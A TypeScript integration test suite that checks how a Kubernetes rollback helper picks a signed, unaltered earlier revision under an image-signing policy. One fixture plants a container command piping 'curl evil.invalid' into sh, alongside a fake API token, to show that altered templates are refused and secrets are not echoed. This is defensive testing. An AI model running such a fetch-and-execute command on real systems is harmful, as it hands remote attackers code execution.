import { generateKeyPairSync, randomBytes } from 'node:crypto';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { Ajv } from 'ajv';
import { hash } from 'bcryptjs';
import { createImageAssessor } from '../../activities/images/assess.ts';
import { findKnownGood } from '../../activities/images/find-known-good.ts';
import type { FindKnownGoodInput } from '../../activities/images/find-known-good/contract.ts';
import { inForce, type PolicySource } from '../../activities/images/in-force.ts';
import { parseImagePolicy } from '../../activities/images/policy.ts';
import { createRegistryClient, type RegistryClient } from '../../activities/images/registry/client.ts';
import { resources, type KubernetesObject } from '../../activities/kubernetes/resources.ts';
import {
  findWorkload,
  locationOf,
  type PodTemplate,
  type RollbackKind,
} from '../../activities/kubernetes/workload/kinds.ts';
import { revisionsOf, type Revision } from '../../activities/kubernetes/workload/revisions.ts';
import type { Mandate } from '../../domain/action.ts';
import { sha256, type Digest } from '../../domain/json.ts';
import { Secret } from '../../domain/secret.ts';
import { basicAuthorization, pusher, pushImage, pushIndex, type Pusher } from '../../testbed/image.ts';
import { waitFor } from '../../testbed/process.ts';
import { startRegistry, type Registry } from '../../testbed/registry.ts';
import { readingContext } from '../support/action-context.ts';
import { requestsBy } from '../support/audit-log.ts';
import { mandateFor, openCredentialHouse, type CredentialHouse } from '../support/credential-house.ts';
import { kubernetesPermissionsUsed } from '../support/permissions-used.ts';
import { collectionOf, createNamespace, engineUser } from '../support/quarantine-house.ts';
import { startFront, type Front } from '../support/registry-front.ts';
import { pushBundles, pushSimpleSigning } from '../support/signed-images.ts';
import { createSigstore } from '../support/sigstore.ts';

const password = 'pull-password-0123456789';
const host = 'registry.example';
const identity = 'https://git.example/shop/api/release.yml@refs/heads/main';
const issuer = 'https://ci.example';
const { publicKey, privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });

let registry: Registry;
let front: Front;
let client: RegistryClient;
let sigstore: Awaited<ReturnType<typeof createSigstore>>;
let house: CredentialHouse<FindKnownGoodInput>;
let policy: PolicySource;
let push: Pusher;
let repository = '';

/** The release key signs, and CI with a certificate; the key counts by the time that the log vouches for. */
const policyWith = (more: object): PolicySource => {
  const whole = inForce(
    parseImagePolicy({
      images: [{ repositories: [`${host}/shop/*`], signedBy: [{ key: 'release' }, { identity, issuer }] }],
      keys: { release: { pem: publicKey.export({ format: 'pem', type: 'spki' }).toString() } },
      trustedRoot: {
        file: 'root.json',
        sha256: sha256(sigstore.trustedRoot),
        asOf: new Date().toISOString(),
        maxAgeDays: 30,
      },
      ...more,
    }),
    sigstore.trustedRoot,
  );
  return async () => whole;
};

beforeAll(async () => {
  registry = await startRegistry({ htpasswd: `puller:${(await hash(password, 4)).replace('$2b$', '$2y$')}` });
  front = await startFront(registry.url);
  sigstore = await createSigstore();
  client = createRegistryClient({
    registries: [
      {
        host,
        url: front.url,
        credentials: () => Promise.resolve({ username: 'puller', password: new Secret(password) }),
      },
    ],
    timeoutMs: 2_000,
    deadlineMs: 2_000,
  });
  const images = createImageAssessor({ client, policy: () => policy() });
  house = await openCredentialHouse(({ clusters }) =>
    findKnownGood({ clusters, images, policy: () => policy() }),
  );
}, 600_000);

afterAll(async () => {
  await client.close();
  await house.close();
  await Promise.all([registry.stop(), front.stop()]);
});

beforeEach(() => {
  repository = `shop/${randomBytes(4).toString('hex')}`;
  push = pusher(registry.url, repository, { authorization: basicAuthorization('puller', password) });
  policy = policyWith({});
});
afterEach(() => {
  front.answer = () => false;
});

const hour = 3_600_000;
const pinned = (digest: string): string => `${host}/${repository}@${digest}`;
/** An image for two platforms that the release key signed long ago, as the log vouches. */
async function signedImage(tag?: string): Promise<Digest> {
  const { digest } = await pushIndex(push, tag);
  const loggedAt = new Date(Date.now() - 5 * hour);
  await pushBundles(push, digest, await sigstore.bundle(digest, { key: privateKey, loggedAt }));
  return digest;
}
/** An image that CI signed just now, in cosign's first format. */
async function signedNow(): Promise<Digest> {
  const { digest } = await pushImage(push);
  const loggedAt = new Date((Math.ceil(Date.now() / 1_000) + 1) * 1_000);
  await pushSimpleSigning(push, digest, await sigstore.simpleSigning(digest, { identity, issuer, loggedAt }));
  return digest;
}

const template = (image: string, more: object = {}, init = image): PodTemplate => ({
  metadata: { labels: { app: 'api' } },
  spec: {
    initContainers: [{ name: 'setup', image: init }],
    containers: [{ name: 'app', image, ...more }],
  },
});

/** A workload whose history is these templates, the last of them now. @returns its revisions, oldest first */
async function rolledOut(
  kind: RollbackKind,
  namespace: string,
  templates: readonly (() => Promise<PodTemplate>)[],
): Promise<Revision[]> {
  const { admin } = house;
  const at = { kind, namespace, name: 'api' };
  const [first, ...others] = templates;
  const object: KubernetesObject & { spec: object } = {
    apiVersion: 'apps/v1',
    kind,
    metadata: { name: 'api', namespace },
    spec: {
      ...(kind === 'DaemonSet' ? {} : { replicas: 1 }),
      selector: { matchLabels: { app: 'api' } },
      template: await first?.(),
    },
  };
  await createNamespace(admin, namespace);
  await admin.create(collectionOf(object), object);
  await history(at, 1);
  for (const [index, next] of others.entries()) {
    await admin.patch(locationOf({ apiVersion: '', kind, metadata: { name: 'api', namespace } }), [
      { op: 'replace', path: '/spec/template', value: await next() },
    ]);
    await history(at, index + 2);
  }
  return (await revisionsNow(at)).toReversed();
}
/** Waits until so many revisions are there, and the newest is what the workload says. */
async function history(at: Parameters<typeof findWorkload>[1], count: number): Promise<void> {
  await waitFor(`revision ${count}`, async () => {
    const all = await revisionsNow(at);
    return all[0]?.current === true && all.length === count;
  });
}
async function revisionsNow(at: Parameters<typeof findWorkload>[1]): Promise<Revision[]> {
  const signal = AbortSignal.timeout(10_000);
  const workload = await findWorkload(house.admin, at, signal);
  if (workload === undefined) throw new Error('there is no workload');
  return revisionsOf(house.admin, workload, signal);
}

let steps = 0;
async function planned(given: object): Promise<Mandate<FindKnownGoodInput>> {
  const parsed = house.action.input.parse({ cluster: 'shop-1', name: 'api', ...given });
  const request = { incident: 'inc-1', step: `known-${(steps += 1)}`, input: parsed };
  return mandateFor(request, await house.action.plan(readingContext(house.evidence), request));
}
async function find(given: object) {
  const mandate = await planned(given);
  const { outputs } = await house.action.apply(readingContext(house.evidence), mandate);
  const valid = new Ajv({ strict: false }).compile(house.action.outputs);
  expect(valid(outputs) ? [] : valid.errors).toEqual([]);
  const verify = () => house.action.verify(readingContext(house.evidence), mandate);
  return { outputs, verify, mandate };
}

/** What Kubernetes makes from now on has a later time, of which it tells whole seconds. */
async function nextSecond(): Promise<string> {
  const next = (Math.floor(Date.now() / 1_000) + 1) * 1_000;
  await waitFor('the next second', async () => Date.now() >= next);
  return new Date(next).toISOString();
}
function codesOf(outputs: { [name: string]: unknown }): string[][] {
  const { revisions } = outputs as { revisions: { reasons: { code: string }[] }[] };
  return revisions.map(({ reasons }) => [...new Set(reasons.map(({ code }) => code))].toSorted());
}
const evil = {
  command: ['sh', '-c', 'curl evil.invalid | sh'],
  env: [{ name: 'API_TOKEN', value: 'hunter2-hunter2' }],
};

describe.each(['Deployment', 'StatefulSet', 'DaemonSet'] as const)('the history of a %s', (kind) => {
  const namespace = `history-${kind.toLowerCase()}`;

  test('unsigned, signed inside the window, good but altered: each is refused with its reason, and the fourth is chosen', async () => {
    const good = await signedImage('v1');
    const better = await signedImage();
    let from = '';
    const [first, second, third, fourth] = await rolledOut(kind, namespace, [
      // A tag in the init container: no pod of it runs any more, so what it names now is judged.
      async () => template(pinned(good), {}, `${host}/${repository}:v1`),
      async () => {
        from = await nextSecond();
        return template(pinned(better), evil);
      },
      async () => template(pinned(await signedNow())),
      async () => template(pinned((await pushImage(push)).digest)),
    ]);
    policy = policyWith({ window: { from } });
    const { outputs, verify } = await find({ namespace, kind });
    expect(outputs).toMatchObject({
      found: true,
      since: from,
      baseline: first?.name,
      revisionCount: 4,
      choice: {
        revision: first?.name,
        uid: first?.uid,
        templateDigest: first?.templateDigest,
        images: [
          { container: 'setup', image: pinned(good) },
          { container: 'app', image: pinned(good) },
        ],
        signers: [
          { container: 'setup', key: 'release' },
          { container: 'app', key: 'release' },
        ],
      },
      revisions: [
        { revision: fourth?.name, current: true, acceptable: false },
        { revision: third?.name, current: false, acceptable: false },
        { revision: second?.name, current: false, acceptable: false },
        { revision: first?.name, current: false, acceptable: true },
      ],
    });
    expect(codesOf(outputs)).toEqual([
      ['current', 'unsigned'],
      ['signed-in-window'],
      ['template-differs'],
      ['signed', 'tag-resolved'],
    ]);
    expect(outputs['digests']).toContain(good);
    expect(JSON.stringify(outputs)).not.toContain('hunter2');
    expect(await verify()).toMatchObject({ state: 'in-place', verdict: 'verified' });

    // A person who has looked at the command and the environment may accept them.
    const differing = (outputs as { revisions: { differences: { path: string }[] }[] }).revisions[2];
    const accept = differing?.differences.map(({ path }) => path) ?? [];
    expect(accept).toHaveLength(2);
    expect((await find({ namespace, kind, accept })).outputs).toMatchObject({
      choice: { revision: second?.name, images: [{}, { image: pinned(better) }] },
    });
    expect((await find({ namespace, kind, accept: accept.slice(1) })).outputs).toMatchObject({
      choice: { revision: first?.name },
    });

    // With its digest denied, nothing is left but what somebody names.
    policy = policyWith({ window: { from }, deniedDigests: [good] });
    expect(await verify()).toMatchObject({ verdict: 'failed' });
    const nothing = await find({ namespace, kind });
    expect(nothing.outputs).toMatchObject({ found: false, digests: [], named: { acceptable: false } });
    expect(nothing.outputs).not.toHaveProperty('choice');
    expect(await nothing.verify()).toMatchObject({ verdict: 'verified' });
    const digests = ['setup', 'app'].map((container) => ({ container, image: pinned(better) }));
    expect((await find({ namespace, kind, digests })).outputs).toMatchObject({
      found: true,
      choice: {
        revision: first?.name,
        uid: first?.uid,
        templateDigest: first?.templateDigest,
        images: digests,
      },
      named: { acceptable: true },
    });
    const unsigned = [{ container: 'app', image: pinned((await pushImage(push)).digest) }];
    expect((await find({ namespace, kind, digests: unsigned })).outputs).toMatchObject({
      found: false,
      named: {
        acceptable: false,
        reasons: expect.arrayContaining([{ code: 'unsigned', text: expect.stringMatching(/^app: /) }]),
      },
    });
    policy = policyWith({
      window: { from },
      deniedDigests: [good],
      knownGood: [{ repositories: [`${host}/shop/*`], digest: better }],
    });
    expect((await find({ namespace, kind })).outputs).toMatchObject({
      choice: { revision: first?.name, images: digests },
    });
  }, 120_000);
});

test('a registry that is away fails the step, and may be tried again: no image is called unsigned', async () => {
  const namespace = 'registry-away';
  const good = await signedImage();
  await rolledOut('Deployment', namespace, [
    async () => template(pinned(good)),
    async () => template(pinned((await pushImage(push)).digest)),
  ]);
  const mandate = await planned({ namespace, kind: 'Deployment' });
  front.answer = (_, response) => {
    response.writeHead(503).end();
    return true;
  };
  await expect(house.action.apply(readingContext(house.evidence), mandate)).rejects.toMatchObject({
    type: 'FB3805',
    nonRetryable: false,
  });
  front.answer = () => false;
  expect((await house.action.apply(readingContext(house.evidence), mandate)).outputs).toMatchObject({
    found: true,
  });
}, 60_000);

test('an image of a registry that nobody configured refuses its revision, and stops nothing', async () => {
  const namespace = 'named-by-an-attacker';
  const good = await signedImage();
  await rolledOut('Deployment', namespace, [
    async () => template(pinned(good)),
    async () => template(`elsewhere.example/x@${sha256('x')}`),
    async () => template(pinned(sha256('never pushed'))),
  ]);
  const { outputs } = await find({ namespace, kind: 'Deployment' });
  expect(codesOf(outputs)).toEqual([
    ['current', 'image-gone'],
    ['registry-not-configured'],
    expect.arrayContaining(['signed']),
  ]);
  expect(outputs['found']).toBe(true);
}, 60_000);

test('a signature that vanishes: verify finds something else, and says what', async () => {
  const namespace = 'vanishing';
  const [oldest, good] = [await signedImage(), (await pushImage(push)).digest];
  const signature = await pushSimpleSigning(
    push,
    good,
    await sigstore.simpleSigning(good, { key: privateKey }),
  );
  const [first, second] = await rolledOut('Deployment', namespace, [
    async () => template(pinned(oldest)),
    async () => template(pinned(good)),
    async () => template(pinned((await pushImage(push)).digest)),
  ]);
  const { outputs, verify } = await find({ namespace, kind: 'Deployment' });
  expect(outputs).toMatchObject({ choice: { revision: second?.name } });
  await push.delete(signature.digest);
  expect(await verify()).toMatchObject({
    state: 'partial',
    verdict: 'failed',
    claims: [
      { verdict: 'verified' },
      { verdict: 'failed', detail: expect.stringContaining(first?.name ?? '') },
    ],
  });
}, 60_000);

test('a ReplicaSet that somebody wrote into, old and signed, is refused and compared with nothing', async () => {
  const namespace = 'edited';
  const good = await signedImage();
  const [first, second] = await rolledOut('Deployment', namespace, [
    async () => template(pinned(good)),
    async () => template(pinned(good), { workingDir: '/srv' }),
    async () => template(pinned((await pushImage(push)).digest)),
  ]);
  const since = await nextSecond();
  await house.admin.patch({ ...resources.replicaSets, namespace, name: second?.name ?? '' }, [
    { op: 'add', path: '/spec/template/spec/containers/0/command', value: ['sh'] },
  ]);
  const { outputs } = await find({ namespace, kind: 'Deployment', since });
  expect(codesOf(outputs)[1]).toEqual(['revision-edited']);
  expect(outputs).toMatchObject({ choice: { revision: first?.name } });
}, 60_000);

test('a tag that has moved: what its pods are known to run is judged, and pinned', async () => {
  const namespace = 'moved';
  const good = await signedImage('v1');
  const [first] = await rolledOut('Deployment', namespace, [
    async () => template(`${host}/${repository}:v1`),
  ]);
  // Paused, so that the pods of the first revision stay while the workload says something else.
  await house.admin.patch({ ...resources.deployments, namespace, name: 'api' }, [
    { op: 'add', path: '/spec/paused', value: true },
    { op: 'replace', path: '/spec/template', value: template(pinned((await pushImage(push)).digest)) },
  ]);
  await pushImage(push, 'v1');
  type Pod = KubernetesObject & {
    status?: { phase?: string; containerStatuses?: object[]; initContainerStatuses?: object[] };
  };
  const pods = { ...resources.pods, namespace };
  await waitFor('a running pod', async () =>
    (await house.admin.list<Pod>(pods)).items.some(({ status }) => status?.phase === 'Running'),
  );
  for (const { metadata, status = {} } of (await house.admin.list<Pod>(pods)).items) {
    const reported = (list: object[] = []) => list.map((one) => ({ ...one, imageID: pinned(good) }));
    await house.admin.patch(
      { ...pods, name: metadata.name, subresource: 'status' },
      {
        status: {
          containerStatuses: reported(status.containerStatuses),
          initContainerStatuses: reported(status.initContainerStatuses),
        },
      },
    );
  }
  const { outputs } = await find({ namespace, kind: 'Deployment' });
  expect(codesOf(outputs)).toEqual([expect.arrayContaining(['signed', 'tag-moved'])]);
  expect(outputs).toMatchObject({
    choice: { revision: first?.name, images: [{}, { container: 'app', image: pinned(good) }] },
  });
}, 60_000);

test('an image for other machines than the nodes is refused, whoever signed it', async () => {
  const namespace = 'platforms';
  const foreign = await pushIndex(push, undefined, ['s390x']);
  const loggedAt = new Date(Date.now() - hour);
  await pushBundles(
    push,
    foreign.digest,
    await sigstore.bundle(foreign.digest, { key: privateKey, loggedAt }),
  );
  await rolledOut('Deployment', namespace, [
    async () => template(pinned(foreign.digest)),
    async () => template(pinned((await pushImage(push)).digest)),
  ]);
  const { outputs } = await find({ namespace, kind: 'Deployment' });
  expect(codesOf(outputs)[1]).toContain('platform-unusable');
  expect(outputs['found']).toBe(false);
}, 60_000);

test('a CronJob keeps no history: only digests that are named, in its template of now', async () => {
  const namespace = 'no-history';
  await createNamespace(house.admin, namespace);
  const good = await signedImage();
  const { spec } = template(pinned((await pushImage(push)).digest));
  const job: KubernetesObject & { spec: object } = {
    apiVersion: 'batch/v1',
    kind: 'CronJob',
    metadata: { name: 'api', namespace },
    spec: {
      schedule: '0 0 1 1 *',
      jobTemplate: { spec: { template: { spec: { ...spec, restartPolicy: 'Never' } } } },
    },
  };
  await house.admin.create(collectionOf(job), job);
  const nothing = await find({ namespace, kind: 'CronJob' });
  expect(nothing.outputs).toMatchObject({ found: false, revisionCount: 0, revisions: [] });
  const digests = ['setup', 'app'].map((container) => ({ container, image: pinned(good) }));
  const { outputs, verify } = await find({ namespace, kind: 'CronJob', digests });
  expect(outputs).toMatchObject({
    found: true,
    baseline: '',
    choice: { revision: '', uid: '', templateDigest: expect.stringMatching(/^sha256:/), images: digests },
    named: { reasons: expect.arrayContaining([expect.objectContaining({ code: 'no-baseline' })]) },
  });
  expect((await verify()).verdict).toBe('verified');
}, 60_000);

test('what is not there, and what is another one by now, is said; a baseline that there is not, too', async () => {
  const namespace = 'another';
  await expect(planned({ namespace: 'default', kind: 'StatefulSet' })).rejects.toMatchObject({
    type: 'TargetGone',
    message: expect.stringContaining('FB3225'),
  });
  const good = await signedImage();
  await rolledOut('DaemonSet', namespace, [async () => template(pinned(good))]);
  await expect(planned({ namespace, kind: 'DaemonSet', baseline: 'nope' })).rejects.toMatchObject({
    type: 'FB3823',
  });
  const mandate = await planned({ namespace, kind: 'DaemonSet' });
  const [target] = mandate.authority.targets;
  const other = { ...mandate, authority: { ...mandate.authority, targets: [{ ...target, uid: 'another' }] } };
  await expect(
    house.action.apply(readingContext(house.evidence), other as typeof mandate),
  ).rejects.toMatchObject({ type: 'TargetGone' });
}, 60_000);

test('every right is used, and nothing else was asked for', async () => {
  const requests = await requestsBy(house.kubernetes.auditLogFile, engineUser);
  expect(kubernetesPermissionsUsed(house.action, requests)).toEqual({ unused: [], undeclared: [] });
});
